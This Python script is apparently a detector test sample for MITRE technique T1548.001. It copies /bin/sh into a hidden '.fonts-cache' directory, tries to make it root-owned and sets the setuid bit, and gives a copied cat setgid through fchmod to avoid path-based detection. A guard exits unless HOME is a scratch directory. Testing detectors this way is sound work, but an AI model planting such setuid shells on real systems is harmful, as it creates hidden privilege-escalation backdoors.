# technique: T1548.001
"""Abuse Elevation Control Mechanism: Setuid and Setgid (T1548.001): a
copy of a shell with the set-user-ID bit, by shutil.copy2 + os.chmod, and
one by os.fchmod on a descriptor.

Copies /bin/sh (dash) to ~/.local/share/.fonts-cache/sh, chowns it to root
and chmods it 0o4755 (as root this is a root shell for anyone who can
reach it); copies /bin/cat to a second name and sets setgid 0o2755 through
os.fchmod on an open descriptor (no path in the chmod). Both copies live
in HOME only.

A good detector raises a high alert: a program sets the setuid/setgid bit
on a file (a copied shell above all).
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import os
import shutil

d = os.path.join(os.path.expanduser("~"), ".local", "share", ".fonts-cache")
os.makedirs(d, exist_ok=True)
sh = shutil.copy2("/bin/sh", os.path.join(d, "sh"))
try:
    os.chown(sh, 0, 0)
except OSError:
    pass
os.chmod(sh, 0o4755)
cat = shutil.copy2("/bin/cat", os.path.join(d, "fc-cat"))
fd = os.open(cat, os.O_RDONLY)
try:
    os.fchmod(fd, 0o2755)
finally:
    os.close(fd)
print(oct(os.stat(sh).st_mode), oct(os.stat(cat).st_mode))
